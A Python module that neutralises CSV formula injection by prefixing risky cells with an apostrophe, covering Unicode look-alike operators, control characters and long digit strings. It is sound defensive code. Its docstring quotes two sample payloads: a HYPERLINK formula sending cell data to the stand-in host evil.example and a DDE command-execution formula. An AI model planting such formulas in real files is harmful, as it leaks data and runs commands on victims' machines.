"""Spreadsheet-safe CSV: the one writer behind every CSV file remit writes.

A spreadsheet program that opens a CSV file reads a cell starting with ``=``, ``+``, ``-``
or ``@`` as a formula when it parses as one, so registry text such as
``-1+HYPERLINK("http://evil.example/?x="&A1,"x")`` or ``=cmd|' /C calc'!A0`` would run in
the reader's spreadsheet (CSV injection). Every CSV remit writes — the open data tables
of ``remit export`` and the site's ``data/csv/``, and ``remit report --format csv`` — goes
through :func:`csv_text` / :func:`csv_bytes`, which pass each cell through
:func:`neutralise`.

The rule (OWASP's CSV-injection advice: a leading apostrophe):

* A cell is **risky** when it starts with tab, CR or LF, or when its first character after
  any leading whitespace or zero-width characters (some importers trim them) is ``=``,
  ``+``, ``-`` or ``@`` — or a form that NFKC folds into one of them, such as the
  full-width ``＝ ＋ － ＠`` (U+FF1D, U+FF0B, U+FF0D, U+FF20) or the small ``﹦ ﹢ ﹣ ﹫`` —
  or the minus sign ``−`` (U+2212).
* A risky cell is written with one apostrophe in front (``'=SUM(A1)``). Spreadsheets show
  it as text; on CSV import the apostrophe stays visible. A cell that already starts with
  an apostrophe gets one more, so the rule can be undone exactly: **a program reading
  remit's CSV drops one leading apostrophe from every cell that starts with one** (or
  reads the JSON exports, which hold every value exactly as written).
* One exception: a **plain decimal number** (``-3.5``, ``-12``: an optional ``-``, ASCII
  digits, optionally ``.`` and digits, nothing else) is written raw. It holds no operator,
  function or reference, so a spreadsheet reads it as the number it is.
* **Phone numbers** written with a leading ``+`` (``+86 851 0000 0001``) are risky cells
  like any other and get the apostrophe: spreadsheets evaluate ``+86-851-0000-0001`` as
  arithmetic (a negative number) and ``+86 851 0000 0001`` as a broken formula, so written
  raw they would be mangled, while ``'+86 851 0000 0001`` shows every digit. Phones written
  the usual way (``0851-0000-0001``) start with a digit and are never touched.

* **Digits a spreadsheet would change.** A cell of ASCII digits only that starts with ``0``
  (``08510000001``: the zero would be dropped) or has 11 digits or more (``13800000000``, a
  mobile number: shown as ``1.38E+10``, and past 15 digits rounded) gets the apostrophe
  too, so every digit survives (:func:`mangled_as_number`). Shorter numbers (``12``,
  ``2024``) are written raw: a spreadsheet reads them as the numbers they are.

**One BOM policy.** Every CSV file remit writes starts with the UTF-8 byte-order mark, so
Excel and WPS read its Chinese text right: the exports' tables and ``remit report --format
csv`` alike (``remit report --no-bom`` leaves it out, for a program that does not expect
one). :func:`csv_bytes` writes it; :data:`BOM` is the mark.

Only the start of a cell matters (a spreadsheet never reads a later line of a multi-line
cell as a formula), and nothing but risky cells is changed: Chinese text, ids, dates,
numbers and URLs are written as they are.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable
from typing import Any

#: The characters that start a formula.
FORMULA_STARTS = frozenset("=+-@")
#: Characters that make a cell risky when it starts with them (an importer may drop them).
CONTROL_STARTS = frozenset("\t\r\n")
#: Look-alikes NFKC does not fold into FORMULA_STARTS that a spreadsheet may still take
#: for an operator: the minus sign.
EXTRA_STARTS = frozenset("\u2212")
#: Zero-width characters skipped, like whitespace, before looking at the first character.
_ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"

#: Written raw although it starts with ``-``: a plain decimal number.
PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?", re.ASCII)

#: UTF-8 byte-order mark, so spreadsheet programs read Chinese text right.
BOM = "\ufeff"


def is_risky(cell: str) -> bool:
    """True when a spreadsheet could read ``cell`` as a formula (see the module's rule)."""
    if not cell:
        return False
    if cell[0] in CONTROL_STARTS or cell[0] == "'":
        return True
    body = cell.lstrip().lstrip(_ZERO_WIDTH).lstrip()
    if not body:
        return False
    first = body[0]
    if (first not in FORMULA_STARTS and first not in EXTRA_STARTS
            and unicodedata.normalize("NFKC", first)[:1] not in FORMULA_STARTS):
        return False
    return PLAIN_NUMBER.fullmatch(cell) is None


#: Digits only: what a spreadsheet reads as a number.
_DIGITS = re.compile(r"[0-9]+", re.ASCII)
#: From this many digits on, a spreadsheet shows a number in E notation (1.38E+10).
LONG_DIGITS = 11


def mangled_as_number(cell: str) -> bool:
    """True when a spreadsheet reading ``cell`` as a number would change what it shows:
    digits only, with a leading zero (dropped) or :data:`LONG_DIGITS` or more of them."""
    return _DIGITS.fullmatch(cell) is not None and (
        (cell[0] == "0" and len(cell) > 1) or len(cell) >= LONG_DIGITS)


def neutralise(cell: str) -> str:
    """``cell`` as written to CSV: risky cells, and digits a spreadsheet would change, get
    one leading apostrophe."""
    return "'" + cell if is_risky(cell) or mangled_as_number(cell) else cell


def _cell(value: Any) -> str:
    if value is None:
        return ""
    return neutralise(value if isinstance(value, str) else str(value))


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """RFC 4180 CSV (``\\r\\n`` line ends, quotes where needed) of ``rows``, header first.

    Every cell is neutralised; ``None`` is an empty cell, other values are written with
    ``str``.
    """
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerows([_cell(v) for v in row] for row in rows)
    return buf.getvalue()


def csv_bytes(rows: Iterable[Iterable[Any]], bom: bool = True) -> bytes:
    """:func:`csv_text` as UTF-8, with a byte-order mark unless ``bom`` is false."""
    return ((BOM if bom else "") + csv_text(rows)).encode("utf-8")


__all__ = ["FORMULA_STARTS", "PLAIN_NUMBER", "BOM", "LONG_DIGITS", "is_risky",
           "mangled_as_number", "neutralise", "csv_text", "csv_bytes"]
